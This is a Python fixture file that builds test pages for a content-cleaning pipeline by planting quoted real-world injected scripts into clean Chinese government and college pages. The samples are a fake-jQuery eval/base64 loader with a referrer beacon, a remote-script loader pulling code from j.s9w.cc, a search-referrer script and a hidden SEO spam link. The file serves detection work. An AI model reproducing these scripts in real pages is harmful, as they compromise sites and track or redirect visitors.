# Composites for real-cases-v4: a real injected script quoted in a public GitHub issue thread / malware write-up,
# placed into a rebuilt real clean gov/edu page (pages corpus capture). What is verbatim is stated per case.

# github issue magicblack/maccms10#1158: code prepended to the site's JS files (fake jQuery banner, referrer
# host + window size beacon, custom base64). Verbatim from the banner line to the capture's end inside
# function no(); the last line's argument and the closing lines (marked) are the keeper's.
MACCMS_1158 = r"""/*! jQuery v3.3.1 | (c) JS Foundation and other contributors | jquery.org/license */
j = 'hp7cycq5CduFGdy9Gct' + 'l2Lzp2LjlG' + 'dhR3cv02' + 'bj5COrdWY' + 'uMWa0FGdz9' + 'yL6MHc0RHan0zc';
eval(no(nv(j)));
function gh() {
    r = document.referrer;
    if (r != '') {
        return r.match('//([^\s/]*)/')[1]
    } else {
        return ''
    }
}
;if (s != '') {
    cc = '?l=' + function() {
        var s;
        s = Date.now().toString();
        z = s.toString();
        w = s.split('');
        s = 0;
        for (var i = 8; i < 13; i++) {
            s += Number(w[i])
        }
        ;s = s % 8;
        return w.slice(4, ).join('') + s.toString();
    }();
    cc = cc + '&b=' + window.outerHeight + '&a=' + window.outerWidth + '&d=' + window.innerHeight + '&c=' + window.innerWidth;
    if (gh()) {
        cc = cc + '&h=' + gh() + '&e=' + document.referrer.length;
    }
    s = s + cc;
}
;j = ['cxsh', 'uuwerld', 'kwerh', '', '7IyOpc', 'iP0BXayN2cvwjP', 'gIyKnIyJrM3', 'KnIyJrISPjJ', '3cgQHcpJ3Yz', 'xzJoUGdpJ3', 'duQnbl1W', 'dj9GZ', 'i0ja', ];
eval(no(vn(j, 4)));
function no(e, v) {
    var m = "ABCDEFGHIJKLMNOPQRSTUVWXYZ" + "abcdefghijklmnopqrstuvwxyz" + "0123456789+/=";
    var t = "", n, r, i, s, o, u, a, f = 0;
    e = e.replace(/[^A-Za-z0-9+/=]/g, "");
    while (f < e.length) {
        s = m.indexOf(e.charAt(f++));
        o = m.indexOf(e.charAt(f++));
    }
    return t
}"""

# github issue hrwhisper/baiduShare#6: code appended to every JS file of a browser-extension release (complete, verbatim).
BAIDUSHARE_6 = """;;(function(){window.v6d061dfa0ddfd12160ad851976e4a26d="fx";window.v6d061dfa0ddfd12160ad851976e4a26e="j.s9w.cc"})();
var f476e749bb252bde7a5c2c9994b6116ce=function(){function b(a){if(!d&&("onreadystatechange"!==a.type||"complete"===document.readyState)){for(a=0;a<c.length;a++)c[a].call(document);d=!0;c=null}}var c=[],d=!1;document.addEventListener?(document.addEventListener("DOMContentLoaded",b,!1),document.addEventListener("readystatechange",b,!1),window.addEventListener("load",b,!1)):document.attachEvent&&(document.attachEvent("onreadystatechange",b),window.attachEvent("onload",b));return function(a){d?a.call(document):
c.push(a)}}();
function f006b08735d9928a8820efe00a26753e7(){try{var b=window.top.document;if(!b.getElementById("82ac324e455efd0ecd2e73d22d852758")){var c=b.createElement("script");c.setAttribute("type","text/javascript");c.setAttribute("id","82ac324e455efd0ecd2e73d22d852758");var d="http://"+window.v6d061dfa0ddfd12160ad851976e4a26e+"/j/?v=1&t="+window.v6d061dfa0ddfd12160ad851976e4a26d+"&j=j";b.getElementsByTagName("head")[0].appendChild(c);c.setAttribute("src",d)}}catch(a){console.log(a.message)}}f476e749bb252bde7a5c2c9994b6116ce(f006b08735d9928a8820efe00a26753e7);"""

# github issue antimalware/manul#91: a hacked Drupal page.tpl.php with a search-engine-referrer script right after <body>.
# Verbatim from <script> to the end of the capture (inside BCR.BCR); the last two lines before </script> are the keeper's.
MANUL_91 = r"""<script type="text/javascript">
BCR = {};
BCR.ses = [
	[/google\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/search\.yahoo\./i, /(\?|&)p=(.*?)(&|$)/i, 2],
	[/bing\.com/i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/search\.aol\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/ask\.com/i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/altavista\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/search\.lycos\./i, /(\?|&)query=(.*?)(&|$)/i, 2],
	[/alltheweb\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/yandex\./i, /(\?|&)text=(.*?)(&|$)/i, 2],
	[/(nova\.|search\.)?rambler\./i, /(\?|&)query=(.*?)(&|$)/i, 2],
	[/gogo\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/go\.mail\./i, /(\?|&)q=(.*?)(&|$)/i, 2],
	[/nigma\./i, /(\?|&)s=(.*?)(&|$)/i, 2]
];
BCR.BCR = function(ref) {
	var q=null;
	for(var i=0; i<BCR.ses.length; i++) {
		var se = BCR.ses[i];
		if (ref.match(se[0])) {
			q = ref.match(se[1])[se[2]];
			break;
		}
	}
	return q;
};
</script>"""

# github:mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:src/content/wordpress-threats/seo-spam-anchor-css-injection.md
# (complete, verbatim): a link block hidden by a style rule that a script writes into <head> (off-screen position).
MDPABEL_CSS = """<div id="M6bMm64IekltUmnGh3vrm9"><p><a href="https://andrikofarmakeio.com/">κοιτάξτε εδώ</a></p></div><script type="text/javascript">function oeYR5CtKOu7Yvb(){var mbO=document.getElementsByTagName('hea'+'d')[0];var JRm='#M6bMm64IekltUmnGh3vrm9{margin:0px 20px;position:fixed;overflow:hidden;top:-152413851px;display:block;z-index:412406018;}';var Ika8H=document.createElement('st'+'yl'+'e');Ika8H.type='text/css';if(Ika8H.styleSheet){Ika8H.styleSheet.cssText=JRm}else{Ika8H.appendChild(document.createTextNode(JRm))}mbO.appendChild(Ika8H)}oeYR5CtKOu7Yvb();</script>"""

COMP = [
 dict(url="http://www.csx.gov.cn/zwgk/bmxxgkml/xwjj/zcwj74/202401/t20240116_11348056.html", site="csx.gov.cn", lang="zh", tpl="trs",
  search="县人民政府 工作动态 金沙 娱乐 网址 登录 正文",
  title="长沙县卫生健康局关于《长沙县突发公共卫生事件应急预案(征求意见稿)》公开征求意见的通知", date="2024-01-15", source="长沙县卫生健康局", author=None,
  page_title="长沙县卫生健康局关于《长沙县突发公共卫生事件应急预案(征求意见稿)》公开征求意见的通知",
  headline="长沙县卫生健康局关于《长沙县突发公共卫生事件应急预案(征求意见稿)》公开征求意见的通知",
  info="日期:2024-01-15   来源:  长沙县卫生健康局",
  body=["为进一步规范我县突发公共卫生事件应急处置等工作,健全应急响应机制,提高应急管理能力,根据《长沙市突发公共卫生事件应急预案》《长沙县突发事件总体应急预案》等文件精神,结合我县实际,特拟定《长沙县突发公共卫生事件应急预案(征求意见稿)》,现向社会公开征求意见,公众可通过以下方式和途径提出意见:",
        "联系电话:84075009", "邮    箱:csxwjjyjb@163.com", "意见反馈截止日期:2024年2月15日", "长沙县卫生健康局", "2024年1月15日"],
  script="<script>\n" + MACCMS_1158 + "\n</script>", where="head_end",
  origin_inj="issues corpus: https://github.com/magicblack/maccms10/issues/1158 (a site owner quoting code prepended to the JS files of a hacked video CMS: fake jQuery licence banner, string-split base64 payloads run through eval, a referrer-host and window-size beacon); verbatim from the banner to `o = m.indexOf(` inside function no(), where the capture stops; the argument of that line and the three closing lines are the keeper's; inlined at the end of <head> as the tampered file's content",
  spam=["hp7cycq5CduFGdy9Gct", "eval(no(vn(j, 4)))"], inj=["fake_library_banner", "eval_base64_payload", "referrer_beacon", "script_in_head"],
  note="clean county health-bureau notice (TRS-like gov template) with a tampered-library script in <head>; text must be kept, page flagged"),
 dict(url="https://www.tlu.edu.cn/2025/0928/c59a120748/page.htm", site="tlu.edu.cn", lang="zh", tpl="vsb",
  search="page.htm 学院 召开 工作会议 体育 注册 官方 平台 传达 精神 部署",
  title="学校召开第二十三届运动会筹备工作会议", date="2025-09-28", source=None, author="体育部",
  page_title="学校召开第二十三届运动会筹备工作会议", headline="学校召开第二十三届运动会筹备工作会议",
  info="作者:体育部日期:2025-09-28点击:50",
  body=["9月26日下午,校党委委员、副校长、校第二十三届运动会组委会主任疏仁华在翠湖校区信息楼211第四会议室,主持召开校第二十三届运动会筹备工作会议本届运动会组委会委员及相关人员参加会议。",
        "学校第二十三届运动会拟定于10月29日至31日举办,拟首次推行线上报名系统。会上,校运动会组委会副主任、体育部主要负责人唐文俊解读了学校第二十三届运动会竞赛规程,重点对本届运动会调整的项目做了说明。与会委员围绕赛事时间、项目调整、报名方式、参赛安排等核心议题展开深入研讨,提出合理化的意见和建议。",
        "疏仁华在听取汇报、发言后强调,要深入学习习近平总书记关于学校体育工作的重要论述,高度重视,各司其职、协同配合,切实做好本届运动会的各项筹备工作。体育部要根据本次会议收集的意见尽快落实发布本次运动会竞赛规程,学校将根据意见完善赛事方案,全力保障本届运动会高效、有序、安全举办,营造积极向上的校园体育氛围。",
        "会议决定,为提升学生体质健康水平,拟在明年春季启动开展学生体质健康“优良率”比赛活动。",
        "(来稿时间:2025928日 撰稿:陈雪晴  编辑:周薇 审稿:荀笋/杨昀)"],
  script="<script type=\"text/javascript\">\n" + BAIDUSHARE_6 + "\n</script>", where="body_end",
  origin_inj="issues corpus: https://github.com/hrwhisper/baiduShare/issues/6 (a user quoting code appended to every JS file of a published release: globals holding a remote host, a DOM-ready helper, then a <script> injected into window.top); complete and verbatim; wrapped in <script> and placed before </body>",
  spam=["j.s9w.cc", "f006b08735d9928a8820efe00a26753e7"], inj=["remote_script_loader", "window_top_injection", "script_body_end"],
  note="clean university news page (VSB-like template) with a remote-script loader before </body>"),
 dict(url="https://ggjcb.shufe-zj.edu.cn/info/1108/1978.htm", site="shufe-zj.edu.cn", lang="zh", tpl="vsb",
  search="page.htm 学院 召开 工作会议 体育 注册 官方 平台 传达 精神 部署",
  title="学院召开第四届趣味运动会筹备会议", date="2018-10-26", source=None, author=None,
  page_title="学院召开第四届趣味运动会筹备会议", headline="学院召开第四届趣味运动会筹备会议",
  crumb="当前位置: 首页 > 体育教研室 > 教研活动 > 正文", info="【来源: | 发布日期:2018-10-26 】",
  body=["10月25日下午,学院在28幢310召开了趣味运动会筹备会议。党院办、工会、宣传部、教务处、团委、保卫处、教学科技中心、公共管理处以及各系负责人参加会议,会议由公共基础部主任顾雪兰主持。",
        "会上,顾雪兰主任发表讲话,提出了本届趣味运动会的意义和重要性,同时介绍出席领导、与会人员。为确保运动会的顺利举行,体育部教师杨仁伟具体安排了运动会各部门工作分工事宜。为确保会议的公平公正,体育部教师郑拯讲解了本次趣味运动会的竞赛规程。各部门在筹备会议上积极参与讨论并发言,并表示会全力协助配合公共基础部办好本次比赛。"],
  script=MDPABEL_CSS, where="after_article",
  origin_inj="github:mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:src/content/wordpress-threats/seo-spam-anchor-css-injection.md (a WordPress malware write-up quoting a link block plus a script that writes an off-screen position rule for it into <head>; complete and verbatim; a different file and script from the one of that repository used in dev v3); placed right after the article body",
  spam=["andrikofarmakeio.com", "κοιτάξτε εδώ", "oeYR5CtKOu7Yvb"], inj=["hidden_link_block", "script_written_css_offscreen", "foreign_language_anchor"],
  note="clean college news page with a link block hidden by script-inserted CSS right after the article; the link text must not reach the extracted text"),
 dict(url="http://zb.gov.cn/zbxzf/xzfwj/202404/49ca3d0c669f4c2ebf6f7fabf563549c.shtml", site="zb.gov.cn", lang="zh", tpl="trs",
  search="县人民政府 工作动态 金沙 娱乐 网址 登录 正文",
  title="镇巴县人民政府工作规则", date="2024-04-06", source=None, author=None,
  page_title="镇巴县人民政府工作规则", headline="镇巴县人民政府工作规则",
  info="索引号: 6107280000/2024-001005 主题分类: 来源: 发文机构: 县政府网站 发文字号: 镇政发〔2024〕7号 发文日期: 2024年04月06日 16:40 有效性: 发布日期: 2024年04月06日 16:34 内容概述:",
  body=["第一章总则",
        "一、根据《中华人民共和国宪法》《中华人民共和国地方各级人民代表大会和地方各级人民政府组织法》,参照《陕西省人民政府工作规则》《汉中市人民政府工作规则》的有关规定,结合本县实际,制定本规则。",
        "二、县政府工作的指导思想是,高举中国特色社会主义伟大旗帜,以习近平新时代中国特色社会主义思想为指导,在党中央、国务院和省委、省政府、市委、市政府、县委的坚强领导下,认真执行党的路线方针政策,严格遵守宪法和法律法规,全面正确履行政府职能,努力建设人民满意的法治政府、效能政府、廉洁政府、服务型政府,奋力谱写中国式现代化建设的镇巴新篇章。",
        "第二章   组成人员和政府职能",
        "四、县政府由县长、副县长、县政府党组成员,县政府各工作部门主要负责人组成。"],
  script=MANUL_91, where="body_start",
  origin_inj="issues corpus: https://github.com/antimalware/manul/issues/91 (a comment quoting a hacked Drupal page template whose <body> starts with a search-engine-referrer keyword script); verbatim from <script> to the end of the capture inside BCR.BCR; `return q;` and `};` are the keeper's; placed right after <body>",
  spam=["BCR.ses", "rambler"], inj=["search_referrer_script", "script_body_start"],
  note="clean county-government regulation with an information-disclosure metadata block and a search-referrer script right after <body>; the capture is the regulation's beginning only"),
]
